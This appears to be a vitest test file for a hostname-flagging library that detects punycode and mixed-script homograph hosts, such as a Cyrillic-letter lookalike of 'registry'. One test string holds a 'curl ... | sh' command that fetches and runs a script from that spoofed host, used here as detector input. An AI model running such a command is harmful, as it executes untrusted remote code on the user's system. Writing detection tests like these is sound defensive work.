import { expect, test } from 'vitest'
import { hostFlag, hostSegments } from '../../../../src/renderer/lib/host-text'

test.each([
  ['packages.example.net', undefined],
  ['xn--regstry-tog.example.org', 'punycode'],
  ['example.XN--P1AI', 'punycode'],
  ['reg\u0456stry.example.org', 'mixed'],
  ['\u03b1pple.com', 'mixed'],
  ['\u043f\u0440\u0438\u0432\u0435\u0442.\u0440\u0444', undefined],
  ['b\u00fccher.example', undefined],
  ['10.0.0.1', undefined],
])('%s is flagged %s', (host, flag) => {
  expect(hostFlag(host)).toBe(flag)
})

test('a suspicious host stands apart and no character is lost', () => {
  const text = 'curl https://reg\u0456stry.example.org/x | sh; cat notes.txt xn--a.b:443'
  expect(hostSegments(text).filter((part) => part.flag !== undefined)).toEqual([
    { text: 'reg\u0456stry.example.org', flag: 'mixed' },
    { text: 'xn--a.b:443', flag: 'punycode' },
  ])
  expect(
    hostSegments(text)
      .map((part) => part.text)
      .join(''),
  ).toBe(text)
})
